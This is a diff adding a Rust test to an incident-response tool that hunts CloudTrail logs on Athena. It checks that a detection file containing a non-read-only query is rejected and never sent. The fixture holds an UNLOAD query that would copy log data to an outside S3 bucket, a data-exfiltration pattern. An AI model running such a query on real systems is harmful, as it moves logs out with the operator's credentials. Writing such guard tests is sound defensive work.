@@ -517,6 +517,44 @@ fn query_and_hunt_run_on_athena() {
     let f: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(f.len(), 1, "{f:?}");
     assert_eq!(f[0]["detection_id"], "aws.cloudtrail.stop-logging");
+    // A detection file holding anything but one read-only query is reported
+    // and never sent (UNLOAD would write the logs out with the operator's
+    // credentials); the others still run.
+    let user = tempfile::tempdir().unwrap();
+    std::fs::write(
+        user.path().join("unload.yaml"),
+        "id: user.unload\ntitle: unload\nseverity: high\nattack: [T1537]\nsource: cloudtrail\nsql: |\n  UNLOAD (SELECT eventid FROM cloudtrail) TO 's3://elsewhere/x/' WITH (format = 'JSON')\n",
+    )
+    .unwrap();
+    queue(serde_json::json!([det_rows_one(ev), evidence_one(ev)]));
+    let out = aws(irprep().args([
+        "hunt",
+        "--engine",
+        "athena",
+        "--database",
+        db,
+        "--workgroup",
+        wg,
+        "--only",
+        "aws.cloudtrail.stop-logging",
+        "--only",
+        "user.unload",
+        "--detections",
+        user.path().to_str().unwrap(),
+        "--format",
+        "json",
+    ]))
+    .output()
+    .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(4), "{err}");
+    assert!(
+        err.contains("detection user.unload failed on Athena: not sent to Athena"),
+        "{err}"
+    );
+    let f: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(f.len(), 1, "{f:?}");
+    assert_eq!(f[0]["detection_id"], "aws.cloudtrail.stop-logging");
     // Nothing the selection reads is there: an error, not an empty success.
     let out = aws(irprep().args([
         "hunt",
